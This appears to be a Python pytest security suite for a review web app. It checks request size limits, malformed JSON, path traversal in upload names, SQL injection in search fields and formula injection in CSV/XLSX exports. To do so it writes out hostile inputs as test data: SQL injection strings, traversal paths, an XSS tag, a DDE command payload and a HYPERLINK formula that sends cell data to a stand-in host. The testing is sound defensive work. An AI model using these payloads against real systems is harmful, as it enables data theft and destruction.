"""Hostile input: oversize bodies (413), malformed JSON (422), path traversal in uploaded file names, and SQL
metacharacters in every search field of the API and the pages (no 500, no injection, tables intact)."""

from __future__ import annotations

import json
import secrets
from pathlib import Path

import pytest
from sqlalchemy import func, select, text

from reviewer.store.models import AuditEvent, Item, User
from reviewer.web import pages_audit
from tests.reliability._helpers import figures, tree
from tests.security.conftest import App
from tests.web.helpers import login, make_item

LIMIT = 100_000  # REVIEWER_MAX_UPLOAD_BYTES of the `inproc` fixture


def _counts(a: App) -> tuple[int, int, int]:
    with a.db.session() as s:
        return tuple(int(s.execute(select(func.count()).select_from(t)).scalar_one()) for t in (Item, User, AuditEvent))  # type: ignore[return-value]


def test_oversize_bodies_are_refused_with_413(inproc: App) -> None:
    cms = inproc.client("cms1")
    before = _counts(inproc)
    body_limit = LIMIT + 1024 * 1024
    cases = {
        "json content over the upload limit": lambda: cms.post("/api/v1/items", json={"external_id": "big-1", "content": "字" * (LIMIT // 3 + 10)}),
        "json body over the body limit": lambda: cms.post("/api/v1/items", json={"external_id": "big-2", "content": "a" * (body_limit + 10)}),
        "multipart file over the upload limit": lambda: cms.post("/api/v1/items", data={"external_id": "big-3"},
                                                                files={"file": ("big.txt", b"a" * (LIMIT + 1))}),
        "chunked body without length": lambda: cms.post("/api/v1/items", content=iter([b"{" + b" " * 65536] * (body_limit // 65536 + 2)),
                                                       headers={"content-type": "application/json"}),
        "lying content-length": lambda: cms.post("/api/v1/items", content=b"{}", headers={"content-length": "999999999999"}),
        "base64 file over the upload limit": lambda: cms.post("/api/v1/items", json={
            "external_id": "big-4", "content_base64": __import__("base64").b64encode(b"a" * (LIMIT + 1)).decode()}),
        "release-check body over the body limit": lambda: cms.post("/api/v1/release-check", json={"external_id": "x", "content": "a" * (body_limit + 10)}),
        "login form over the body limit": lambda: inproc.client().post("/login", data={"username": "a" * (body_limit + 10)}),
    }
    for name, call in cases.items():
        try:
            r = call()
        except Exception as exc:  # noqa: BLE001 - a client refusing to send a lying length is fine; the server never saw it
            assert "lying" in name, (name, exc)
            continue
        assert r.status_code == 413, (name, r.status_code, r.text[:200])
        assert not r.json()["detail"].isascii()
    assert _counts(inproc) == before
    figures("oversize_bodies", cases=len(cases), status=413, rows_written=0)


MALFORMED: dict[str, bytes] = {
    "truncated": b'{"external_id": "m-1", "content": "abc',
    "not json": b"external_id=m-1&content=abc",
    "array": b'["m-1", "abc"]',
    "null": b"null",
    "number as id": b'{"external_id": 5, "content": "abc"}',
    "empty id": b'{"external_id": "", "content": "abc"}',
    "no content": b'{"external_id": "m-1"}',
    "both contents": b'{"external_id": "m-1", "content": "a", "content_base64": "YQ=="}',
    "bad base64": b'{"external_id": "m-1", "content_base64": "***"}',
    "invalid utf-8": b'{"external_id": "m-1", "content": "\xff\xfe"}',
    "id too long": json.dumps({"external_id": "x" * 201, "content": "a"}).encode(),
    "nested object": b'{"external_id": {"$gt": ""}, "content": "a"}',
    "trailing garbage": b'{"external_id": "m-1", "content": "a"} xyz',
    "empty body": b"",
    "deep nesting": b'{"external_id": "m-1", "content": ' + b"[" * 5000 + b"]" * 5000 + b"}",
}


def test_malformed_json_is_refused_with_422(inproc: App) -> None:
    item_id = make_item(inproc.db, "正文", external_id="m-base")
    cms, rev = inproc.client("cms1"), inproc.client("rev1")
    before = _counts(inproc)
    tried = 0
    for name, raw in MALFORMED.items():
        r = cms.post("/api/v1/items", content=raw, headers={"content-type": "application/json"})
        assert r.status_code == 422, (name, r.status_code, r.text[:200])
        assert r.json()["detail"] and not r.json()["detail"].isascii(), name
        tried += 1
    for fields in ({"external_id": "x" * 201}, {"external_id": "m-2", "title": "t" * 501}, {"external_id": ""}):
        r = inproc.client("cms1", raise_server_exceptions=False).post("/api/v1/items", data=fields, files={"file": ("a.txt", b"abc")})
        assert r.status_code == 422, (fields, r.status_code)  # multipart fields are validated like JSON ones, never a 500
        tried += 1
    review_bodies = [b"{", b'{"content_sha256": "abc", "decision": "approve"}', b'{"content_sha256": "' + b"0" * 64 + b'", "decision": "publish"}',
                     b'{"content_sha256": "' + b"0" * 64 + b'", "decision": "approve", "findings": [{"finding_id": "x"}]}', b"[]"]
    for raw in review_bodies:
        r = rev.post(f"/api/v1/items/{item_id}/review", content=raw, headers={"content-type": "application/json"})
        assert r.status_code == 422, (raw, r.status_code)
        tried += 1
    for raw in (b"{", b'{"external_id": 1}', b'{"external_id": "x", "content": 5}'):
        r = cms.post("/api/v1/release-check", content=raw, headers={"content-type": "application/json"})
        assert r.status_code == 422, (raw, r.status_code)
        tried += 1
    assert _counts(inproc) == before
    figures("malformed_json", bodies_tried=tried, status=422, rows_written=0)


TRAVERSAL = [
    "../../../../tmp/{m}.txt", "..\\..\\..\\windows\\{m}.txt", "/etc/{m}.txt", "C:\\temp\\{m}.txt", "....//....//{m}.txt",
    "..", ".", "", "%2e%2e%2f%2e%2e%2f{m}.txt", "{m}\x00.txt", "dir/../../{m}.docx", "./{m}.pdf", "~/{m}.txt",
    "\\\\server\\share\\{m}.txt", "..%c0%af{m}.txt", "{m}" + "a" * 400 + ".txt", "新建 文档/../{m}.txt",
]


def test_path_traversal_in_uploaded_file_names(inproc: App, tmp_path: Path) -> None:
    marker = "evil" + secrets.token_hex(4)
    cms = inproc.client("cms1", raise_server_exceptions=False)
    before_data = tree(inproc.data_dir)
    stored = []
    for i, pattern in enumerate(TRAVERSAL):
        name = pattern.format(m=marker)
        r = cms.post("/api/v1/items", data={"external_id": f"trav-{i}"}, files={"file": (name, "正文内容".encode())})
        if name == "" or len(name) > 300:  # no file name: not a file; an over-long name: refused (never a 500)
            assert r.status_code == 422 and not r.json()["detail"].isascii(), (name[:40], r.status_code, r.text[:200])
            continue
        assert r.status_code == 201, (name, r.status_code, r.text)
        body = cms.get(f"/api/v1/items/{r.json()['id']}").json()
        stored.append(body["file_name"])
        fn = body["file_name"]
        assert "/" not in fn and "\\" not in fn and fn not in ("", ".", "..") and "\x00" not in fn and len(fn) <= 300, (name, fn)
    # nothing written anywhere: not in the data dir (content lives in the database), not at the targets
    new = tree(inproc.data_dir) - before_data
    assert all(p.endswith(".pem") for p in new) and not any(marker in p for p in tree(inproc.data_dir)), new
    for root in (Path("/tmp"), Path("/etc"), tmp_path.parent, Path.home()):
        assert not any(marker in p.name for p in root.glob(f"*{marker}*")), root
    figures("path_traversal", names_tried=len(TRAVERSAL), stored_names_with_separators=0, files_written_outside=0)


SQLI = [
    "' OR '1'='1", "' OR 1=1 --", "\"; DROP TABLE items; --", "1; DELETE FROM users", "' UNION SELECT password_hash FROM users --",
    "%", "_", "\\", "'", "\"", "1' AND SLEEP(1) --", "x') OR ('a'='a", "$1", "\x00", "admin'--", "0x27", "１＇ＯＲ＇１＇＝＇１",
]


def _page_fields() -> dict[str, list[str]]:
    """Every query field of every page with a search form (taken from the page modules, so a new field is covered)."""
    return {
        "/audit": list(pages_audit.SEARCH_FIELDS),
        "/audit/export.csv": list(pages_audit.SEARCH_FIELDS),
        "/audit/log": ["since", "until", "unit", "actor", "action", "item_id"],
        "/audit/stats": ["year", "month"],
        "/audit/stats.csv": ["year", "month"],
        "/audit/verify": ["expected_head"],
        "/review": ["verdict", "channel", "author"],
        "/officer": ["verdict", "channel", "author"],
    }


def test_sql_metacharacters_in_every_search_field(inproc: App) -> None:
    for i in range(3):
        make_item(inproc.db, f"正文{i}", external_id=f"sq-{i}", author=f"作者{i}", channel="通知公告")
    before = _counts(inproc)
    tried = 0
    api = inproc.client("rev1")
    for field in ("external_id", "state"):
        for payload in SQLI:
            r = api.get("/api/v1/items", params={field: payload})
            assert r.status_code in (200, 422), (field, payload, r.status_code)
            if r.status_code == 200:
                assert r.json()["items"] == [], (field, payload)  # nothing matches a hostile filter
            tried += 1
    cms = inproc.client("cms1")
    for payload in SQLI:
        r = cms.post("/api/v1/release-check", json={"external_id": payload, "content": "正文0"})
        assert r.status_code in (200, 422) and (r.status_code == 422 or r.json()["approved"] is False), payload
        tried += 1
    pages = {"/audit": "aud", "/audit/export.csv": "aud", "/audit/log": "aud", "/audit/stats": "aud", "/audit/stats.csv": "aud",
             "/audit/verify": "aud", "/review": "off1", "/officer": "off1"}
    clients = {}
    for who in set(pages.values()):
        clients[who] = inproc.client()
        login(clients[who], who)
    for path, fields in _page_fields().items():
        c = clients[pages[path]]
        for field in fields:
            for payload in SQLI:
                r = c.get(path, params={field: payload})
                assert r.status_code in (200, 404, 422), (path, field, payload, r.status_code)
                if r.status_code == 200 and path in ("/audit", "/review") and payload.startswith("'"):
                    assert "sq-0" not in r.text or field not in ("external_id", "unit", "reviewer", "rule", "author"), (path, field, payload)
                tried += 1
    for payload in SQLI:  # the login form's username
        c = inproc.client()
        form = c.get("/login")
        from tests.web.helpers import csrf_of

        r = c.post("/login", data={"csrf_token": csrf_of(form.text), "username": payload, "password": payload})
        assert r.status_code == 401, (payload, r.status_code)
        tried += 1
    with inproc.db.session() as s:
        for table in ("items", "users", "audit_events", "api_tokens", "reviews"):
            s.execute(text(f"SELECT count(*) FROM {table}"))  # still there
    after = _counts(inproc)
    assert after[0] == before[0] and after[1] == before[1]  # only audit events (logins, release checks) were added
    figures("sql_metacharacters", requests=tried, http_500=0, rows_changed=0)


@pytest.mark.parametrize("external_id", ["'; DROP TABLE items; --", "<script>alert(1)</script>", "../../etc/passwd", "é\u0301\u200b"])
def test_hostile_external_ids_are_stored_literally(inproc: App, external_id: str) -> None:
    cms = inproc.client("cms1")
    r = cms.post("/api/v1/items", json={"external_id": external_id, "content": "正文"})
    assert r.status_code == 201
    listed = cms.get("/api/v1/items", params={"external_id": external_id}).json()["items"]
    assert [i["external_id"] for i in listed] == [external_id.strip()]


FORMULAS = ["=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_spreadsheet_formulas_in_exports_stay_text(inproc: App) -> None:
    """Titles, authors and channels are untrusted: in the auditor's CSV and XLSX exports they never become formulas."""
    import csv
    import io

    import openpyxl

    for i, f in enumerate(FORMULAS):
        make_item(inproc.db, f"正文{i}", external_id=f"xl-{i}", title=f, author=f, channel=f)
    c = inproc.client()
    login(c, "aud")
    rows = list(csv.reader(io.StringIO(c.get("/audit/export.csv").content.decode("utf-8-sig"))))
    cells = [v for row in rows[1:] for v in row]
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells if v), [v for v in cells if v[:1] in "=+-@"]
    for f in FORMULAS:
        assert "'" + f in cells, f  # kept, visibly, as text
    book = openpyxl.load_workbook(io.BytesIO(c.get("/audit/export.xlsx").content))
    xcells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in xcells if cell.data_type == "f"], "a formula cell in the export"
    values = {str(cell.value).replace("_x000D_", "\r") for cell in xcells}  # OOXML's escape of a carriage return
    assert {f for f in FORMULAS} <= {v.lstrip("'") for v in values}
    figures("export_formula_injection", formulas=len(FORMULAS), fields=3, formula_cells=0)
